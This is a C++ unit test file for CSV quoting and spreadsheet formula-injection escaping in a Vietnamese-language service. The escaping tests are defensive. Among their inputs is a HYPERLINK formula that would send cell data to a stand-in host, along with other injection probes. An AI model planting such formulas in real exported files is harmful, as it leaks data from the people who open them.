#include "services/common/csv.h"

#include "gtest/gtest.h"

namespace tonghop {
namespace {

TEST(CsvFieldTest, QuotesOnlyWhatASpreadsheetWouldSplitOrTrim) {
  EXPECT_EQ(CsvField("Sở Tư pháp"), "Sở Tư pháp");
  EXPECT_EQ(CsvField("1.200,5"), "\"1.200,5\"");
  EXPECT_EQ(CsvField("a;b"), "\"a;b\"");
  EXPECT_EQ(CsvField("nói \"không\""), "\"nói \"\"không\"\"\"");
  EXPECT_EQ(CsvField("hai\ndòng"), "\"hai\ndòng\"");
  EXPECT_EQ(CsvField(" lề"), "\" lề\"");
  EXPECT_EQ(CsvField(""), "");
  EXPECT_EQ(CsvRow({"a", "b,c", ""}), "a,\"b,c\",\r\n");
}

TEST(SpreadsheetTextTest, AFormulaBecomesTextAndANumberStaysANumber) {
  EXPECT_EQ(SpreadsheetText("=HYPERLINK(\"http://x/?\"&B2)"), "'=HYPERLINK(\"http://x/?\"&B2)");
  EXPECT_EQ(SpreadsheetText("+1+1"), "'+1+1");
  EXPECT_EQ(SpreadsheetText("@SUM(A1)"), "'@SUM(A1)");
  EXPECT_EQ(SpreadsheetText("- Tổ chức hội nghị"), "'- Tổ chức hội nghị");
  EXPECT_EQ(SpreadsheetText("\t=1"), "'\t=1");
  EXPECT_EQ(SpreadsheetText("-5"), "-5");
  EXPECT_EQ(SpreadsheetText("-1.200,5"), "-1.200,5");
  EXPECT_EQ(SpreadsheetText("+3"), "+3");
  EXPECT_EQ(SpreadsheetText("Hoàn thành"), "Hoàn thành");
  EXPECT_EQ(SpreadsheetText(""), "");
  EXPECT_EQ(SpreadsheetText("-"), "'-");
}

}  // namespace
}  // namespace tonghop
